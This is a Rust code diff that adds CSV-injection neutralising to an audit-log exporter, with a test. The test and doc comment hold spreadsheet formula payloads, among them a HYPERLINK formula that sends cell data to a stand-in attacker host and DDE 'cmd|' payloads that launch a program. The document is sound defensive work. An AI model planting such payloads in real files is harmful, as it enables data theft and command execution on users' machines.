@@ -18,7 +18,8 @@ pub enum ExportFormat {
     /// One JSON object per line, fields named as in [`AuditRecord`].
     Jsonl,
     /// A header line, then one line per record, columns in [`AuditRecord`] order;
-    /// absent values are empty cells.
+    /// absent values are empty cells, and a text cell beginning with `=`, `+`,
+    /// `-`, `@`, a tab or a carriage return gets a leading `'` (see `neutralise_cell`).
     Csv,
 }
 
@@ -102,10 +103,46 @@ fn write_records(
             csv.write_record(CSV_HEADER)
                 .map_err(|e| failed(e.to_string()))?;
             for record in records {
-                csv.serialize(record).map_err(|e| failed(e.to_string()))?;
+                let row = csv_row(record).map_err(|e| failed(e.to_string()))?;
+                csv.write_record(&row).map_err(|e| failed(e.to_string()))?;
             }
             csv.flush().map_err(|e| failed(e.to_string()))
         }
+    }
+}
+
+/// One record as CSV cells in [`CSV_HEADER`] order: numbers as written,
+/// absent values empty, and every text cell through [`neutralise_cell`]. The
+/// record goes through its JSON form, so text and numbers stay apart and a
+/// field added to [`AuditRecord`] cannot skip the neutralising.
+fn csv_row(record: &AuditRecord) -> Result<Vec<String>, serde_json::Error> {
+    let serde_json::Value::Object(fields) = serde_json::to_value(record)? else {
+        return Err(serde::ser::Error::custom(
+            "an audit record is not an object",
+        ));
+    };
+    Ok(CSV_HEADER
+        .iter()
+        .map(|column| match fields.get(*column) {
+            None | Some(serde_json::Value::Null) => String::new(),
+            Some(serde_json::Value::String(text)) => neutralise_cell(text),
+            Some(other) => other.to_string(),
+        })
+        .collect())
+}
+
+/// A text cell made safe to open in a spreadsheet (OWASP's advice against
+/// CSV injection): a cell beginning with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return would be read as a formula (`=HYPERLINK(...)`,
+/// `+cmd|...`, `@SUM(...)`), so it gets a leading `'`, which spreadsheets
+/// show as text and do not evaluate. Only text cells are neutralised: a
+/// number (a negative one starts with `-`) is written as it is, since a
+/// number is never a formula. Every CSV this host writes goes through here.
+pub fn neutralise_cell(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
     }
 }
 
@@ -188,6 +225,48 @@ mod tests {
             1,
             "header only"
         );
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised_in_the_csv_and_numbers_are_not() {
+        let mut records = records();
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        for (i, text) in hostile.iter().enumerate() {
+            let mut record = records[0].clone();
+            record.call_id = (*text).to_owned();
+            record.plugin = (*text).to_owned();
+            record.seq = -(i as i64) - 1;
+            records.push(record);
+        }
+        let mut out = Vec::new();
+        write_records(&records, ExportFormat::Csv, &mut out).unwrap();
+        let mut reader = csv::Reader::from_reader(out.as_slice());
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        assert_eq!(rows.len(), records.len());
+        for (row, text) in rows[2..].iter().zip(hostile) {
+            // plugin (column 3) and call_id (column 6): quoted, whole.
+            assert_eq!(&row[3], format!("'{text}"));
+            assert_eq!(&row[6], format!("'{text}"));
+            // seq is a number: a negative one is written as it is.
+            assert!(row[1].starts_with('-'), "{:?}", &row[1]);
+        }
+        for row in &rows {
+            for cell in row.iter().filter(|c| c.parse::<f64>().is_err()) {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "a text cell begins with a formula character: {cell:?}"
+                );
+            }
+        }
+        assert_eq!(neutralise_cell("call-1"), "call-1");
+        assert_eq!(neutralise_cell(""), "");
     }
 
     #[test]
